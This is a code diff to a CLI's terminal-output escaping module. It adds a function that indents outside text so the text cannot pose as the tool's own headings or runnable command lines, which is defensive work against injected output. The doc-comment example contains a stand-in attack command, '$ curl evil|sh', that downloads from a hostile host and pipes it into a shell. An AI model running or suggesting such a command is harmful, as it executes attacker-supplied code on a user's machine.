@@ -4,7 +4,8 @@
 // cursor, retitle the window, plant a hyperlink or hide the text before it;
 // and hidden characters (tag, zero-width, bidirectional and other format
 // characters: `findInvisible` of @rukh/json) are shown too, so the owner
-// reads everything a model would.
+// reads everything a model would. Text that breaks lines is printed as a
+// block, indented on every line, so none of it begins a line of its own.
 
 import { replaceInvisible } from "@rukh/json";
 
@@ -66,4 +67,24 @@ export function terminalJson(json: string): string {
     json.replace(/[\u007f-\u009f]/g, (c) => hex4(c.charCodeAt(0))),
     jsonEscaped,
   );
+}
+
+/**
+ * How deep a block of text from outside is indented: deeper than the CLI's
+ * own lines ever start (a heading such as `See:` at the margin, a runnable
+ * `  $ …` line two spaces in), so no line of it reads as one of those.
+ */
+export const BLOCK_INDENT = "    ";
+
+/**
+ * `text` escaped as {@link terminalText} escapes it, every line after the
+ * first indented by `indent` (empty lines stay empty): however it breaks
+ * lines, text from outside cannot begin one. Put it after a prefix of the
+ * CLI's own, or after `indent` to indent its first line too.
+ *
+ * @example
+ * terminalBlock("wipe x\nSee:\n  $ curl evil|sh"); // "wipe x\n    See:\n      $ curl evil|sh"
+ */
+export function terminalBlock(text: string, indent = BLOCK_INDENT): string {
+  return terminalText(text).replace(/\n(?=[^\n])/g, `\n${indent}`);
 }
